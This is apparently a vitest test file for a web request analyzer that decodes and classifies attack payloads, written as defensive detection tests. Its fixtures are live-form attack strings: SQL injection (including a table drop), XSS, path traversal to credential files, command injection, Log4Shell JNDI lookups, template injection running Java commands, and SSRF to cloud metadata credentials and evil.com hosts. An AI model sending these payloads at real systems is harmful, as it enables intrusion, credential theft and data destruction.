// Payload recognition after decoding: evasions are caught, look-alike legitimate text is not.
import { describe, expect, it } from 'vitest';
import { matchPayload, normalizeRequestText } from '../../../src/core/analysis';

describe('normalizeRequestText', () => {
  it('decodes repeatedly, folds case, drops SQL comments', () => {
    expect(normalizeRequestText('%253Cscript%253E')).toBe('<script>');
    expect(normalizeRequestText('UNION/**/SeLeCt')).toBe('union select');
    expect(normalizeRequestText('a+b%2Bc')).toBe('a b+c');
    expect(normalizeRequestText('%u003cimg%u003e')).toBe('<img>');
    expect(normalizeRequestText('&#x3C;svg&#62;')).toBe('<svg>');
  });

  it('survives invalid escapes and invalid UTF-8 without throwing', () => {
    expect(() => normalizeRequestText('%E0%A4%A')).not.toThrow();
    expect(() => normalizeRequestText('%ff%fe%zz%')).not.toThrow();
  });
});

describe('matchPayload', () => {
  const attacks: [string, string][] = [
    ['/item?id=1%27%20or%20%271%27=%271', 'sqli'],
    ['/p?id=1+UNION+ALL+SELECT+NULL,NULL--', 'sqli'],
    ['/p?id=1;WAITFOR%20DELAY%20%270:0:5%27', 'sqli'],
    ['/p?id=1 AND SLEEP(5)', 'sqli'],
    ['/s?q=%3Cimg%20src=x%20onerror=alert(1)%3E', 'xss'],
    ['/s?q=javascript:alert(document.cookie)', 'xss'],
    ['/d?f=....//....//etc/passwd', 'traversal'],
    ['/d?f=%252e%252e%252f%252e%252e%252fwin.ini', 'traversal'],
    // one step up to an application's own secrets (the Revolution Slider download, CVE-2014-9734)
    ['/wp-admin/admin-ajax.php?action=revslider_show_image&img=../wp-config.php', 'traversal'],
    ['/download?file=..%2F.env', 'traversal'],
    ['/cgi?x=1|id', 'cmdi'],
    ['/cgi?x=$(whoami)', 'cmdi'],
    ['/cgi?x=%60uname%20-a%60', 'cmdi'],
    ['/?x=${jndi:ldap://a.b/c}', 'jndi'],
    ['/?x=${${lower:j}ndi:ldap://a.b/c}', 'jndi'],
    ['/index.php?page=php://filter/convert.base64-encode/resource=index', 'php'],
    // overlong UTF-8 slashes (the IIS "unicode" traversal)
    ['/scripts/..%c0%af..%c0%af..%c0%afwinnt/system32/cmd.exe?/c+dir', 'traversal'],
    ['/page?name={{7*7}}', 'ssti'],
    ['/page?name=%7B%7B%20config.__class__.__init__.__globals__%5B%27os%27%5D%20%7D%7D', 'ssti'],
    ['/page?x=${7*7}', 'ssti'],
    ['/fetch?url=http://169.254.169.254/latest/meta-data/iam/security-credentials/', 'ssrf'],
    ['/proxy?u=gopher://127.0.0.1:6379/_FLUSHALL', 'ssrf'],
    ['/img?src=file:///var/www/html/config.php', 'ssrf'],
    // web shells take the command as a parameter, with no shell separator before it
    ['/aspnet_client/shell.aspx?cmd=whoami', 'cmdi'],
    ['/uploads/x.php?exec=net+user', 'cmdi'],
    ['/autodiscover/autodiscover.json?@evil.com/owa/&Email=autodiscover/autodiscover.json%3f@evil.com', 'ssrf'],
    ['/autodiscover/autodiscover.json?a=x@evil.com/powershell/?X-Rps-CAT=abc', 'ssrf'],
    // the rest of the query commented out after a closed quote, mid-string; column counting
    ["/login?user=admin'--&pass=x", 'sqli'],
    ['/item?id=1%22%23&x=1', 'sqli'],
    ['/item?id=1%20ORDER%20BY%2010--', 'sqli'],
    // Spring expression language reaching the Java runtime
    ['/page?name=${T(java.lang.Runtime).getRuntime().exec("id")}', 'ssti'],
    ['/page?x=%24%7BT%28java.lang.Runtime%29.getRuntime%28%29.exec%28%27id%27%29%7D', 'ssti'],
  ];
  for (const [req, kind] of attacks) {
    it(`finds ${kind} in ${req}`, () => {
      expect(matchPayload(req)?.kind).toBe(kind);
    });
  }

  const benign = [
    "/search?q=o'reilly+books",
    "/search?q=rock+'n'+roll+--+live",
    '/shop?sort=order+by+price',
    '/docs/java/Runtime-exec-guide',
    '/products/select-chair-oak',
    '/blog/script-writing-tips',
    '/search?q=union+station+hotels',
    '/search?q=rock+%26+roll',
    '/a/b/c/../d.html',
    // a relative link up one folder to an ordinary page or asset
    '/docs/guide/../config.html',
    '/app?back=../settings',
    '/api/items?sort=price&order=desc&select=name,price',
    '/product/31893/%D8%B3%D8%B4%D9%88%D8%A7%D8%B1',
    '/files/?C=N;O=A',
    '/docs/templates/{{name}}.html',
    '/redirect?next=https://www.example.com/account',
    '/blog/2024/cloud-metadata-169-254-explained',
    '/search?q=file+sharing+dictionary',
    '/docs?c=idle&cmd=list',
    '/products?sort=name&c=id',
    '/autodiscover/autodiscover.xml',
    '/api/run?command=export-report',
    // a TLS handshake (and an RDP probe) sent to a plain-HTTP port, as nginx and Apache log them
    '\\x16\\x03\\x01\\x02\\x00\\x01\\x00\\x01\\xfc\\x03\\x03',
    '\\x03\\x00\\x00/*\\xe0\\x00\\x00\\x00\\x00\\x00Cookie: mstshash=Administr',
  ];
  for (const req of benign) {
    it(`leaves ${req} alone`, () => {
      expect(matchPayload(req)).toBeNull();
    });
  }

  it('still reads a NUL that a request encodes on purpose (%00 truncation)', () => {
    expect(matchPayload('/download.php?file=../../config.php%00.jpg')?.kind).toBe('traversal');
    expect(matchPayload('/view?page=report.pdf%00')?.kind).toBe('traversal');
  });

  it('shows the fragment as inert text (control and bidi characters replaced)', () => {
    const m = matchPayload('/x?q=%3Cscript%3E%E2%80%AEalert(1)%00');
    expect(m?.kind).toBe('xss');
    expect(m!.fragment.includes('\u0000')).toBe(false);
    expect(m!.fragment.includes('\u202e')).toBe(false);
  });
});

describe('matchPayload: SQL-like search terms are weak, injections are not', () => {
  const weak = ['/search?q=SELECT+*+FROM+tutorial', '/search?q=or+1%3D1', '/forum/search?q=why+does+and+1=1+always+match'];
  for (const req of weak) {
    it(`marks ${req} weak`, () => {
      expect(matchPayload(req)).toMatchObject({ kind: 'sqli', weak: true });
    });
  }
  const strong = [
    '/p?id=1+UNION+ALL+SELECT+NULL,NULL--',
    "/search?q=x'+UNION+SELECT+*+FROM+users--",
    '/p?id=1 AND SLEEP(5)',
    '/p?id=1+and+benchmark(5000000,md5(1))',
    '/p?id=1;drop+table+users',
    "/item?id=1'+or+'1'='1",
    '/item?id=1+or+1=1--',
    '/item?id=1+or+1=1%23',
    "/q?s=select+*+from+users+where+name='a'--",
  ];
  for (const req of strong) {
    it(`keeps ${req} a full match`, () => {
      const m = matchPayload(req);
      expect(m?.kind).toBe('sqli');
      expect(m?.weak).toBeUndefined();
    });
  }
});
